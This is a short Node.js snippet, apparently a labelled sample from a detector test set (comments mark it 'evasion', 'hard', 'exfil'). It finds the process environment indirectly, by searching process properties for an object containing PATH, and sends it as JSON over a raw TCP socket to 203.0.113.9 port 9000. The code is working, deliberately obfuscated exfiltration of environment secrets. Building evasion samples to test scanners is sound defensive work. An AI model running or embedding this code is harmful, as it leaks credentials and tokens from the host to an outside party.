// evasion: the environment found among Object.entries(process) by its shape (an object with PATH) and sent over a socket
// grade: hard; does: exfil
'use strict';
const net = require('net');
const entry = Object.entries(process).find(([k, v]) => v && typeof v === 'object' && 'PATH' in v);
const s = net.connect(9000, '203.0.113.9', () => s.end(JSON.stringify(entry[1])));
